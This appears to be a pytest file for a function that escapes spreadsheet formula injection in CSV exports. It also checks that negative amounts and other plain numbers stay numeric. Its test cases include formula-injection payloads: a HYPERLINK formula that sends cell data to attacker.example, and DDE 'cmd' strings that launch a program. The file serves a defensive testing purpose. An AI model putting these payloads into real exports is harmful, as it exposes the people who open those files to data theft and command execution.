"""genesis/spreadsheets.py: a CSV cell a spreadsheet would run as a formula is written as text (OWASP's
leading single quote), while numbers — negative amounts included — stay numbers."""

from __future__ import annotations

import csv
import io
import re
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from genesis.spreadsheets import FORMULA_STARTS, csv_writer, spreadsheet_cell


@pytest.mark.parametrize(("cell", "written"), [
    ('=HYPERLINK("http://attacker.example/?d="&B2,"open")', '\'=HYPERLINK("http://attacker.example/?d="&B2,"open")'),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("-", "'-"),
    ("-0.01e3", "'-0.01e3"),
    ("-\u0663", "'-\u0663"),  # an Arabic-Indic digit: not a number to a spreadsheet
    # Numbers, as numbers or as the ledger's text, are not formulas: left alone.
    ("-0.010000", "-0.010000"),
    ("+5", "+5"),
    ("-120", "-120"),
    (Decimal("-0.01"), Decimal("-0.01")),
    (-120, -120),
    # Text that starts with anything else is left alone.
    ("open-mistral-7b", "open-mistral-7b"),
    ("ft:open-mistral-7b:=x", "ft:open-mistral-7b:=x"),
    ("", ""),
    (None, None),
])
def test_a_cell_that_would_start_a_formula_is_text_and_numbers_stay_numbers(cell, written):
    assert spreadsheet_cell(cell) == written


@given(st.text())
def test_no_written_text_cell_starts_a_formula_unless_it_is_a_number(text):
    cell = spreadsheet_cell(text)
    assert cell == text or cell == "'" + text
    if cell.startswith(FORMULA_STARTS):
        assert re.fullmatch(r"[+-][0-9]+(\.[0-9]+)?", cell)  # only a plain number may still start with - or +


def test_the_writer_quotes_every_cell_of_every_row():
    out = io.StringIO()
    writer = csv_writer(out, lineterminator="\n")
    writer.writerow(["model", "amount_usd"])
    writer.writerows([["=1+1", "-0.01"], ["@x", Decimal("2.50")]])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [["model", "amount_usd"], ["'=1+1", "-0.01"], ["'@x", "2.50"]]
